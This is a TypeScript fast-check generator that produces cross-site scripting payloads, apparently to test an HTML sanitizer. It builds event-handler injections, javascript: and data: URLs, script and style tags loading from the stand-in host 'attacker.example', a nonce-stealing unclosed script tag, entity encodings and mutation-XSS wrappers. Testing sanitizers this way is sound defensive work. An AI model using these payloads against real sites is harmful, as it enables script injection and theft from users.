import fc from 'fast-check'

type Texts = fc.Arbitrary<string>

/** Where foreign scripts and pictures lie; the browser of the attacks finds our own server under this name. */
export const ATTACKER_HOST = 'attacker.example'

/** Is filled in with the payload's own number. */
export const PAYLOAD_NUMBER = '№'
const pick = (...texts: string[]): Texts => fc.constantFrom(...texts)
const pickLine = (lines: string) => pick(...lines.trim().split('\n'))
const joined = (...parts: (Texts | string)[]): Texts =>
  fc.tuple(...parts.map((part) => (typeof part === 'string' ? fc.constant(part) : part))).map((texts) => texts.join(''))

/** Each calls the page's `hit` with the payload's number. */
const code = pick(
  ...['hit(№)', 'hit`№`', "window['hit'](№)", 'top.hit(№)', '[№].forEach(n=>hit(n))', '(0,hit)(№)', 'hit(№)//'],
  "eval('hit(№)')",
  "setTimeout('hit(№)')",
  "Function('hit(№)')()",
  'import(`data:text/javascript,hit(№)`)',
  'alert(№)',
  'this.hit(№)',
  "location='javascript:hit(№)'",
  'try{hit(№)}catch{}',
  '\u2028hit(№)',
  '/**/hit(№)/**/',
)

const hex = (text: string) => text.replace(/./gsu, (letter) => `&#x${letter.codePointAt(0)!.toString(16)};`)
const decimal = (text: string) => text.replace(/./gsu, (letter) => `&#${letter.codePointAt(0)!}`).replace(/$/, ';')
const padded = (text: string) =>
  text.replace(/[a-z]/g, (letter) => `&#${String(letter.charCodeAt(0)).padStart(7, '0')};`)
const named = (text: string) =>
  text.replaceAll(':', '&colon;').replaceAll('(', '&lpar;').replaceAll(')', '&rpar;').replaceAll('\n', '&NewLine;')
const plain = (text: string) => text
/** Encodings of an attribute's value; the number stays readable to be filled in. */
const encoded = (value: Texts): Texts =>
  fc
    .tuple(value, fc.constantFrom(plain, plain, plain, hex, decimal, padded, named))
    .map(([text, write]) => (text.includes('[[') ? text : text.split(PAYLOAD_NUMBER).map(write).join(PAYLOAD_NUMBER)))

const quoted = (value: Texts): Texts =>
  fc.tuple(value, pick('"', '"', "'", '')).map(([text, quote]) => {
    if (quote === '') return /[\s>"'`=<]/.test(text) ? `"${text.replaceAll('"', '&quot;')}"` : text
    return quote + text.replaceAll(quote, quote === '"' ? '&quot;' : '&#39;') + quote
  })
const value = (text: Texts) => quoted(encoded(text))
const odd = (name: string): Texts =>
  fc
    .constantFrom(
      plain,
      plain,
      (text: string) => text.toUpperCase(),
      (text: string) => text.replace(/./g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
    )
    .map((write) => write(name))
const between = pick(' ', ' ', ' ', '/', '\t', '\n', '\f', '/ /', ' x ', " ='' ", ' "')

const TAGS = (
  'img svg body video audio input details marquee iframe object a p div x-y select textarea button form h2 li math style ' +
  'link embed source track html frameset keygen isindex table td ul br strong animate image template dialog meter slot'
).split(' ')
const EVENTS = (
  'load error focus blur click dblclick mouseover mouseenter mousedown pointerover pointerdown keydown input change submit ' +
  'toggle beforetoggle animationstart animationend transitionend begin end wheel scroll copy paste cut drag contextmenu ' +
  'auxclick focusin beforeinput invalid reset select start finish loadstart canplay pageshow hashchange message resize ' +
  'securitypolicyviolation scrollend contentvisibilityautostatechange'
).split(' ')
/** One a line. */
const BAITS = `
src="x"
src="data:,"
autofocus tabindex="1"
open
contenteditable
href="#"
type="image" src="x"
style="animation:spin 1s"
style="content-visibility:auto"
popover
id="x"
srcset="x"
data="x"
dur="1s" attributeName="x"
loop="1" width="1"
rel="stylesheet" href="/missing"
xmlns="http://www.w3.org/1999/xhtml"`
const bait = joined(' ', pickLine(BAITS))
const handler = fc
  .tuple(fc.constantFrom(...TAGS), fc.constantFrom(...EVENTS))
  .chain(([tag, event]) =>
    joined(
      '<',
      odd(tag),
      bait,
      between,
      odd(`on${event}`),
      pick('=', '=', ' = ', '\n='),
      value(code),
      pick('>', '>', '>', ' />', ' ', `>x</${tag}>`, `>x</${tag}>`),
    ),
  )

const scheme = pick(
  'javascript:',
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript://x%0a',
  'javascript:/*x*/',
  'jav\tascript:',
  '\x0ejavascript:',
  'vbscript:',
  'javascript:void ',
)
const address = fc.oneof(
  { weight: 8, arbitrary: joined(scheme, code) },
  joined('data:text/html,<script>', code, '</script>'),
  joined('data:text/html;base64,[[<script>', code, '</script>]]'),
  joined('data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="', code, '"/>'),
  joined('data:text/javascript,', code),
  pick(
    `//${ATTACKER_HOST}/№`,
    `http://${ATTACKER_HOST}/№`,
    `http:${ATTACKER_HOST}/№`,
    '/own/№',
    'https:/\\x.example',
    'blob:x',
    '?№',
  ),
)
/** `§` is where the address goes. */
const LINKED = `
<a href=§>x</a>
<a target=_blank href=§>x</a>
<a xlink:href=§>x</a>
<a ping=§ href=#>x</a>
<area href=§>
<math href=§>x</math>
<svg><a xlink:href=§><text y=9>x</text></a></svg>
<svg><a href=§><rect width=9 height=9 /></a></svg>
<svg><a><animate attributeName=href dur=9s values=§ /><text y=9>x</text></a></svg>
<svg><a><set attributeName=href to=§ /><text y=9>x</text></a></svg>
<svg><use href=§ /></svg>
<svg><image href=§ /></svg>
<svg><script href=§></script></svg>
<script src=§></script>
<script type=module src=§></script>
<link rel=stylesheet href=§>
<link rel=modulepreload href=§>
<link rel=manifest href=§>
<iframe src=§></iframe>
<frame src=§>
<embed src=§>
<object data=§></object>
<form action=§><button>x</button></form>
<form id=f></form><button form=f formaction=§>x</button>
<form><input type=image src=x formaction=§></form>
<base href=§>
<img src=§>
<video poster=§></video>
<body background=§>
<meta http-equiv=refresh content=0;url=§>`
const linked = pickLine(LINKED).chain((line) => {
  const [open = '', close = ''] = line.split('§')
  return joined(open, value(address), close)
})

const script = fc.oneof(
  joined(
    pick(
      '<script>',
      '<SCRIPT>',
      '<script/x>',
      '<script\n>',
      '<script nonce="">',
      '<script nonce=x>',
      '<script type=module>',
    ),
    code,
    '</script>',
  ),
  joined('<svg><script>', encoded(code), '</script></svg>'),
  joined('<script>/*', pick('', '<!--'), '*/', code, pick('</script>', '</script x>', '</script\n>')),
  joined('<scr<script>ipt>', code, '</scr</script>ipt>'),
  joined(`<base href=//${ATTACKER_HOST}/><script src=№></script><script>`, code, '</script>'),
  // Left open, so that the page's own script, which follows, lends its nonce.
  pick(
    `<script src=//${ATTACKER_HOST}/№ `,
    `<script src=//${ATTACKER_HOST}/№ x="`,
    `<script src=//${ATTACKER_HOST}/№ x='`,
    '<script src=data:,hit(№) ',
  ),
)
const style = pick(
  `<style>@import '//${ATTACKER_HOST}/№.css'</style>`,
  `<style>*{background:url(//${ATTACKER_HOST}/№)}</style>`,
  `<p style="background:url(//${ATTACKER_HOST}/№)">x</p>`,
  '<p style="width:expression(hit(№))">x</p>',
  `<p style="x:\\65xpression(hit(№));behavior:url(//${ATTACKER_HOST}/№)">x</p>`,
  '<meta http-equiv=content-security-policy content="script-src \'unsafe-inline\'"><script>hit(№)</script>',
)
const simple = fc.oneof(
  { weight: 5, arbitrary: handler },
  { weight: 4, arbitrary: linked },
  { weight: 2, arbitrary: script },
  style,
)
const document = joined('<iframe srcdoc=', value(simple), '></iframe>')

/** `§` is where another payload goes. */
const WRAPS = `
<p>x</p>§<p>y</p>
<p>§</p>
</div>§<div>
<b><p><i>§</b></i></p>
<!--§-->
<!-->§-->
<!--x--!>§-->
<!§>
<?§?>
</§>
<![CDATA[§]]>
<noscript><p title="</noscript>§"></noscript>
<textarea>§</textarea>
<textarea><a title="</textarea>§">
<title></title>§
<xmp>§</xmp>
<xmp><p title="</xmp>§">
<noembed><p title="</noembed>§">
<template>§</template>
<template shadowrootmode=open>§</template>
<div><template shadowrootmode=open>§</template></div>
<svg></p><style><g title="</style>§">
<svg><![CDATA[§]]></svg>
<svg><foreignObject>§</foreignObject></svg>
<svg><desc>§
<math><mtext><table><mglyph><style><!--</style>§-->
<math><annotation-xml encoding=text/html>§</annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math>§
<select><option>§</select>
<table><tr>§</table>
<a href="https://x.example" title="§">x</a>
<a href='https://x.example/'§>x</a>
<a href=https://x.example><a href="§">
<img src="x\` \`§">
<p title="§">
<iframe><!--</iframe>§-->
<object>§</object>
<style><!--</style>§-->
<plaintext>§
${'<li>'.repeat(300)}§
${'<b>'.repeat(520)}§`
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
const unclosed = (text: string) => text.replace(/>[^>]*$/, '')
const nulls = (text: string) => text.replace(/<(.)/g, '<$1\0')
const written = fc.oneof(
  { weight: 20, arbitrary: fc.constant(plain) },
  ...[escaped, unclosed, nulls].map((write) => fc.constant(write)),
)
/** A text of HTML that calls `hit` in one of the ways that browsers have known. */
export const payload = fc
  .tuple(
    fc.oneof({ weight: 6, arbitrary: simple }, document, joined(simple, simple)),
    fc.oneof(
      ...[0, 0, 1, 1, 2, 3].map((length) => fc.array(pickLine(WRAPS), { minLength: length, maxLength: length })),
    ),
    written,
  )
  .map(([text, wraps, write]) => wraps.reduce((inner, wrap) => wrap.split('§').join(inner), write(text)))
